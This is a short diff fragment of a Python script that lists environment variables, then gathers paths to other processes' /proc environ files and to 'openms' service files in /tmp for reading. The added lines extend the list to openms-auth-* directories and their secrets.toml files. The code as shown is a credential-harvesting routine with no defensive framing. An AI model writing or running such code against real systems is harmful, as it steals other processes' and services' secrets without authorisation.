@@ -15,6 +15,8 @@ for name in sorted(os.environ):
 print(f"UID {os.getuid()}")
 targets = [f"/proc/{pid}/environ" for pid in os.listdir("/proc") if pid.isdigit() and int(pid) != os.getpid()]
 targets += ["/tmp/openms-redis.conf", "/tmp/openms-runtime.env"]
+targets += [f"/tmp/{name}/secrets.toml" for name in os.listdir("/tmp") if name.startswith("openms-auth-")]
+targets += [f"/tmp/{name}" for name in os.listdir("/tmp") if name.startswith("openms-auth-")]
 for path in targets:
     try:
         with open(path, "rb") as handle:
